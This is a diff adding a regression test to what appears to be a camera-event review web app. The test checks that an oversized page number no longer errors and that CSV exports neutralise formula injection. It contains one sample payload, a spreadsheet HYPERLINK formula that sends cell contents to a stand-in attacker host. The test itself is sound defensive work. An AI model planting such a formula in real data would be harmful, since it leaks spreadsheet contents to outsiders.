@@ -5,6 +5,8 @@ filters, reviews, mutes, CSV)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from contextlib import closing
 import socket
@@ -279,3 +281,20 @@ def test_index_retention_forgets_old_resolved_unreviewed_cases_only(tmp_path):
     assert index.case(event(3)["event_id"]) is not None               # still open
     assert not index.muted("cam01", "z1", "A01", now=time.time() + 7200)
     assert index.prune("2026-11-24T08:00:00+08:00") == 0
+
+
+def test_a_huge_page_number_and_a_formula_in_a_reason_are_harmless(served):
+    # Issue #34 item 6: page=10^20 answered 500 (SQLite's OFFSET overflowed); a dismiss reason that
+    # a spreadsheet runs as a formula went raw into cases.csv.
+    base, index, events = served
+    with closing(login(base)) as c:
+        huge = "100000000000000000000"
+        assert c.get("/api/cases", params={"page": huge}).status_code == 200
+        assert c.get("/cases", params={"page": huge}).status_code == 200
+        eid = events[2]["event_id"]
+        formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        c.post(f"/cases/{eid}/review", data={"verdict": "dismissed", "reason": formula, "csrf": csrf_of(c)})
+        rows = list(csv.reader(io.StringIO(c.get("/cases.csv", params={"muted": "true"}).text)))
+        reasons = [row[-1] for row in rows[1:] if row[0] == eid]
+        assert reasons == ["'" + formula]
+        assert not any(cell[:1] in "=+-@" for row in rows[1:] for cell in row if cell)
